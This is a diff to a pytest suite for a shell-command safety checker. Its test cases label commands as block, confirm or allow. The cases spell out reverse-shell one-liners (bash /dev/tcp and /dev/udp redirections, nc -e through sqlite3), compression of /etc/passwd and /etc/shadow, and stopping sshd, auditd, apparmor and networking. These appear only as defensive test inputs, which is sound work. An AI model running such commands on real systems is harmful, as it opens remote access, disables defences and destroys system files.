@@ -414,6 +414,10 @@ RUBY_SHELL = (
         ("exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196", "block"),
         ("exec 5<>/dev/tcp/10.0.0.1/4444;cat <&5 | while read l; do $l 2>&5 >&5; done", "block"),
         ("mknod /tmp/bp p; /bin/sh 0</tmp/bp | nc 10.0.0.1 4444 1>/tmp/bp", "block"),
+        # `N<>FILE` opens FILE to read and write (tree-sitter-bash misreads it as `N<` and `>`)
+        ("sh -i 5<> /dev/tcp/10.0.0.1/4444 0<&5 1>&5 2>&5", "block"),
+        ("bash -i 3<>/dev/udp/10.0.0.1/53 <&3 >&3", "block"),
+        ("cat 3<> notes.txt", "allow"),
         (RUBY_SHELL, "block"),
         ("sqlite3 /dev/null '.shell nc -e /bin/sh 10.0.0.1 4444'", "block"),
         ("sqlite3 app.db '.tables'", "allow"),
@@ -954,4 +958,59 @@ def test_programs_that_run_a_command_from_their_options(command: str, expected: 
     ],
 )
 def test_enciphered_text_run_by_a_shell(command: str, expected: str) -> None:
+    assert decision(command) == expected, command
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        # A compressor replaces each file with its compressed copy: the original is moved away.
+        ("gzip /etc/passwd", "block"),
+        ("gzip -r /etc", "block"),
+        ("sudo bzip2 /etc/shadow", "block"),
+        ("xz -9 /etc/group", "block"),
+        ("zstd --rm /etc/passwd", "block"),
+        ("pigz -r /usr/bin", "block"),
+        ("gzip -r ~", "confirm"),
+        ("gzip -k /etc/passwd", "allow"),  # kept
+        ("gzip -c /etc/passwd > /tmp/passwd.gz", "allow"),  # to stdout
+        ("xz -t /etc/old.xz", "allow"),
+        ("gzip -d /etc/old.conf.gz", "allow"),
+        ("zstd /etc/passwd", "allow"),  # zstd keeps its input unless --rm
+        ("gzip -S .z notes.txt", "allow"),
+        ("gzip *.log", "allow"),
+    ],
+)
+def test_a_compressor_moves_the_file_it_compresses_away(command: str, expected: str) -> None:
+    assert decision(command) == expected, command
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        # Stopping remote access, the network, a defence or a core service is the same under
+        # any init system.
+        ("rc-service sshd stop", "confirm"),
+        ("sv down sshd", "confirm"),
+        ("sv down /etc/service/sshd", "confirm"),
+        ("/etc/init.d/ssh stop", "confirm"),
+        ("sudo /etc/init.d/networking stop", "confirm"),
+        ("invoke-rc.d ssh stop", "confirm"),
+        ("initctl stop ssh", "confirm"),
+        ("launchctl unload -w /System/Library/LaunchDaemons/ssh.plist", "confirm"),
+        ("s6-svc -d /run/service/sshd", "confirm"),
+        ("rc-service auditd stop", "confirm"),
+        ("/etc/init.d/apparmor stop", "confirm"),
+        ("sv stop fail2ban", "confirm"),
+        ("rc-service dbus stop", "confirm"),
+        ("rc-service sshd restart", "allow"),
+        ("/etc/init.d/ssh restart", "allow"),
+        ("sv up sshd", "allow"),
+        ("sv status sshd", "allow"),
+        ("rc-service nginx stop", "allow"),
+        ("initctl status ssh", "allow"),
+        ("launchctl list", "allow"),
+    ],
+)
+def test_services_stopped_under_other_init_systems(command: str, expected: str) -> None:
     assert decision(command) == expected, command
